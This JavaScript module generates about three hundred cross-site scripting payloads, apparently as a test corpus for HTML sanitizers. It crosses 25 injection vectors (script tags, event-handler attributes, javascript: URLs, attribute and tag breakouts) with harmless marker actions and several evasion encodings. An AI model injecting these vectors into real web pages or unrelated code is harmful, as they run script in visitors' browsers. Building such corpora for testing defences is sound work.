// SPDX-License-Identifier: Apache-2.0
// payloads.mjs - three hundred texts that execute where a page takes text for markup, a link, a style or a script: every vector in
// every coat. All of them set window.pwned or open a dialog.
const DO = ['window.pwned=1', 'alert(1)', 'top.pwned=1']
const VECTORS = [
	(x) => `<script>${x}</script>`,
	(x) => `<img src=x onerror=${x}>`,
	(x) => `<svg onload=${x}>`,
	(x) => `<svg><script>${x}</script></svg>`,
	(x) => `<svg><animate onbegin=${x} attributeName=x dur=1s>`,
	(x) => `<iframe srcdoc="<script>parent.${x}</script>"></iframe>`,
	(x) => `<iframe src="javascript:${x}"></iframe>`,
	(x) => `<details open ontoggle=${x}>`,
	(x) => `<input autofocus onfocus=${x}>`,
	(x) => `<video><source onerror=${x}></video>`,
	(x) => `<body onload=${x}>`,
	(x) => `<math><mtext><table><mglyph><style><img src=x onerror=${x}>`,
	(x) => `<object data="javascript:${x}"></object>`,
	(x) => `<a href="javascript:${x}">x</a>`,
	(x) => `<form action="javascript:${x}"><button autofocus>x</button></form>`,
	(x) => `<style>@import 'javascript:${x}';</style>`,
	(x) => `<template><script>${x}</script></template>`,
	(x) => `javascript:${x}`,
	(x) => `JaVaScRiPt&colon;${x}`,
	(x) => `data:text/html,<script>${x}</script>`,
	(x) => `" onmouseover="${x}" autofocus onfocus="${x}`,
	(x) => `' onclick='${x}' x='`,
	(x) => `</textarea><img src=x onerror=${x}>`,
	(x) => `</title><script>${x}</script>`,
	(x) => `-->'"></style></script><img src=x onerror=${x}>`,
]
const COATS = [(s) => s, (s) => s.replace(/</g, '\u003c').replace(/ on/g, '\ton'), (s) => `${s}\u2028${s}`, (s) => `\u202e${s}`]

export const PAYLOADS = VECTORS.flatMap((v) => DO.flatMap((x) => COATS.map((c) => c(v(x)))))
